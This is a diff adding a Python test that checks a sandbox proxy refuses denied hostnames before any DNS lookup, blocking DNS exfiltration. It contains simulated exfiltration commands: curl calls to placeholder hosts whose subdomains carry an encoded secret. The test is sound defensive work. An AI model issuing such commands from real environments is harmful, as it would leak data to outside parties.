@@ -222,3 +222,34 @@ async def test_a_connection_flood_is_bounded_and_the_session_recovers(ert: Runti
         assert code == 0 and "hello" in out, out
     finally:
         await session.close()
+
+
+async def test_a_refused_name_never_reaches_the_hosts_resolver(
+    ert: Runtime, origin: Origin, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """DNS exfiltration through the proxy: the host resolves a name only once it decided to
+    allow it, so a denied name carrying data is never looked up."""
+    looked_up: list[str] = []
+    real = anyio.getaddrinfo
+
+    async def recording(host: str, *args: object, **kwargs: object):  # type: ignore[no-untyped-def]
+        looked_up.append(str(host))
+        return await real(host, *args, **kwargs)  # type: ignore[arg-type]
+
+    monkeypatch.setattr(anyio, "getaddrinfo", recording)
+    p = origin.https_port
+    session = await open_tooled(ert, origin, [f"origin.test:{p}", f"localhost:{p}"], Approver("deny"))
+    try:
+        tried = 0
+        for i in range(10):
+            code, out = await bash(session, f"curl -sS https://secret-{i}-c2VjcmV0.example.org/")
+            tried += 1
+            assert code != 0 and "403" in out, out
+        landed = sum("secret" in name for name in looked_up)
+        print(f"DNS exfiltration through the proxy: tried {tried}, landed {landed} (names looked up: {looked_up})")
+        assert landed == 0
+        # Control: an allowed name that no mapping covers is looked up (and refused as loopback).
+        code, out = await bash(session, f"curl -sS --noproxy '' https://localhost:{p}/hello")
+        assert "403" in out and looked_up == ["localhost"], (out, looked_up)
+    finally:
+        await session.close()
